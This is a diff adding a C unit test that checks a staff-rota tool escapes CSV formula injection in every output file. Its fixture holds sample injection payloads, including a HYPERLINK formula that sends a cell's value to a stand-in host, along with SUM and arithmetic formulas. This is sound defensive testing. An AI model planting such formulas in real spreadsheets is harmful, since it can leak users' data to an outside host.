@@ -834,6 +834,167 @@ static void test_cli_failed_solve_records_nothing(void **state)
 	result_free(&r);
 }
 
+/* --- outputs: formula injection, safe writing, the --out preflight,
+ * terminal safety (issue 15, points 3, 5, 6 and 11) --- */
+#include "io/io_csv.h"
+
+#include <dirent.h>
+#include <sys/resource.h>
+#include <sys/stat.h>
+
+/* Writes the NULL-terminated {name, text} pairs as files of tmp_dir/dir. */
+static void write_scenario(const char *dir, const char *const *files)
+{
+	char path[400];
+	size_t i;
+	tmp_path(path, sizeof(path), dir);
+	mkdir(path, 0777);
+	for (i = 0; files[i]; i += 2) {
+		FILE *fp;
+		snprintf(path, sizeof(path), "%s/%s/%s", tmp_dir, dir, files[i]);
+		fp = fopen(path, "wb");
+		assert_non_null(fp);
+		fputs(files[i + 1], fp);
+		fclose(fp);
+	}
+}
+
+/* A small system whose every id begins with '-' (a valid identifier: `-A1`
+ * is also a formula) and whose every name is a formula; it has lending,
+ * bank, agency and a short row, so that every output has rows. */
+static const char *const formula_scenario[] = {
+    "partners.csv",
+    "id,name,kind\n"
+    "-A1,\"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\",acute\n"
+    "-B2,+SUM(1+1),community\n",
+    "roles.csv",
+    "id,name,group,band\n-R1,-2+3,registered_nursing,@SUM(1)\n",
+    "shifts.csv",
+    "id,date,start,end,paid_hours,enhancement\n"
+    "-S1,2026-11-30,07:00,15:00,8,0\n-S2,2026-11-30,15:00,23:00,8,0.3\n",
+    "demand.csv",
+    "partner,role,shift,required,minimum,priority\n"
+    "-A1,-R1,-S1,5,2,1\n-A1,-R1,-S2,5,2,1\n-B2,-R1,-S1,2,1,1\n-B2,-R1,-S2,9,1,1\n",
+    "staff.csv",
+    "partner,role,shift,available,rotatable\n"
+    "-A1,-R1,-S1,2,0\n-B2,-R1,-S1,4,2\n-B2,-R1,-S2,1,1\n",
+    "bank.csv",
+    "id,name,role,home,max_hours,partners\n-W1,@SUM(1),-R1,-A1,48,*\n-W2,=1+1,-R1,-B2,48,\n",
+    "availability.csv",
+    "worker,shift\n-W1,-S1\n-W2,-S2\n",
+    "agency.csv",
+    "supplier,tier,framework,role,partner,rate,capacity\n-AG,1,yes,-R1,*,60,1\n",
+    "agreements.csv",
+    "from,to,role,max_per_shift,travel_cost,recharge_rate\n-B2,-A1,*,2,10,20\n",
+    "caps.csv",
+    "role,bank_rate,agency_cap\n-R1,25,80\n",
+    NULL};
+
+/* True when cell is a number as muster writes one ("-12.5"). */
+static bool is_number_cell(const char *cell)
+{
+	char *end;
+	if (!*cell)
+		return false;
+	strtod(cell, &end);
+	return *end == '\0';
+}
+
+struct csv_walk {
+	size_t n_files, n_cells, n_quoted;
+};
+
+/* Reads every CSV file under dir (recursively) and fails on a cell that a
+ * spreadsheet would run: one beginning with =, +, -, @, a tab or a CR that
+ * is not a number. */
+static void check_no_formula_cells(const char *dir, struct csv_walk *w)
+{
+	DIR *d = opendir(dir);
+	struct dirent *e;
+	assert_non_null(d);
+	while ((e = readdir(d)) != NULL) {
+		char path[1024];
+		struct stat st;
+		size_t n = strlen(e->d_name), i;
+		if (strcmp(e->d_name, ".") == 0 || strcmp(e->d_name, "..") == 0)
+			continue;
+		snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
+		assert_int_equal(lstat(path, &st), 0);
+		if (S_ISDIR(st.st_mode)) {
+			check_no_formula_cells(path, w);
+		} else if (n > 4 && strcmp(e->d_name + n - 4, ".csv") == 0) {
+			char *text = slurp(path);
+			struct io_csv_table *t = NULL;
+			struct mu_err err;
+			assert_int_equal(io_csv_read(path, text, strlen(text), &t, &err), MU_OK);
+			w->n_files++;
+			for (i = 0;
+			     i < t->rows[t->n_rows - 1].first + t->rows[t->n_rows - 1].n_cells;
+			     i++) {
+				const char *cell = io_csv_cell_text(t, &t->cells[i]);
+				w->n_cells++;
+				w->n_quoted += cell[0] == '\'';
+				if (strchr("=+-@\t\r", cell[0]) && cell[0] && !is_number_cell(cell))
+					fail_msg("%s:%lu: cell '%s' would run as a formula", path,
+					         t->cells[i].line, cell);
+			}
+			io_csv_table_free(t);
+			free(text);
+		}
+	}
+	closedir(d);
+}
+
+/* Point 3: whatever the names and ids, no CSV muster writes holds a cell
+ * that a spreadsheet runs as a formula (DESIGN.md §4): solve (rota and
+ * plan, partners' files included), compare and sweep. */
+static void test_cli_no_csv_cell_runs_as_a_formula(void **state)
+{
+	static const char *const runs[][12] = {
+	    {"solve", "fx", "--out", "fx-rota", "--db", "fx.db", NULL},
+	    {"solve", "fx", "--lp", "--out", "fx-plan", "--db", "fx.db", NULL},
+	    {"compare", "fx", "--lp", "--out", "fx-compare", "--db", "fx.db", NULL},
+	    {"sweep", "fx", "--lp", "--vary", "agency_cap.-R1=50:70:20", "--out", "fx-sweep",
+	     "--db", "fx.db", NULL},
+	};
+	struct csv_walk w = {0, 0, 0};
+	char path[400], *text;
+	size_t k;
+	(void)state;
+	write_scenario("fx", formula_scenario);
+	for (k = 0; k < sizeof(runs) / sizeof(runs[0]); k++) {
+		const char *const *a = runs[k];
+		struct result r =
+		    run(a[0], a[1], a[2], a[3], a[4], a[5], a[6], a[7], a[8], a[9], a[10], NULL);
+		if (r.status != 0 && r.status != 3)
+			fail_msg("muster %s exited %d: %s", a[0], r.status, r.err);
+		result_free(&r);
+	}
+	tmp_path(path, sizeof(path), "fx-rota");
+	check_no_formula_cells(path, &w);
+	tmp_path(path, sizeof(path), "fx-plan");
+	check_no_formula_cells(path, &w);
+	tmp_path(path, sizeof(path), "fx-compare");
+	check_no_formula_cells(path, &w);
+	tmp_path(path, sizeof(path), "fx-sweep");
+	check_no_formula_cells(path, &w);
+	/* plan, summary, why, rota and partners' plan and rota (2 each); plan,
+	 * summary, why, prices and partners' plans; compare, and system and silo
+	 * folders of their own; sweep */
+	assert_true(w.n_files >= 20);
+	assert_true(w.n_quoted > 100);
+	/* the prefix keeps the text whole after it */
+	tmp_path(path, sizeof(path), "fx-rota/summary.csv");
+	text = slurp(path);
+	assert_non_null(strstr(text, "'-A1,\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\""));
+	assert_non_null(strstr(text, "'-B2,'+SUM(1+1),"));
+	free(text);
+	tmp_path(path, sizeof(path), "fx-rota/rota.csv");
+	text = slurp(path);
+	assert_non_null(strstr(text, "'-W1,'@SUM(1),'-R1,'-A1,"));
+	free(text);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -853,6 +1014,9 @@ int main(void)
 	    cmocka_unit_test(test_cli_time_limit_marks_the_rota_not_proven),
 	    cmocka_unit_test(test_cli_interrupted_solve_records_nothing),
 	    cmocka_unit_test(test_cli_failed_solve_records_nothing),
+	    cmocka_unit_test(test_cli_no_csv_cell_runs_as_a_formula),
 	};
+	if (getenv("TF"))
+		cmocka_set_test_filter(getenv("TF")); /*DEVONLY*/
 	return cmocka_run_group_tests(tests, setup, teardown);
 }
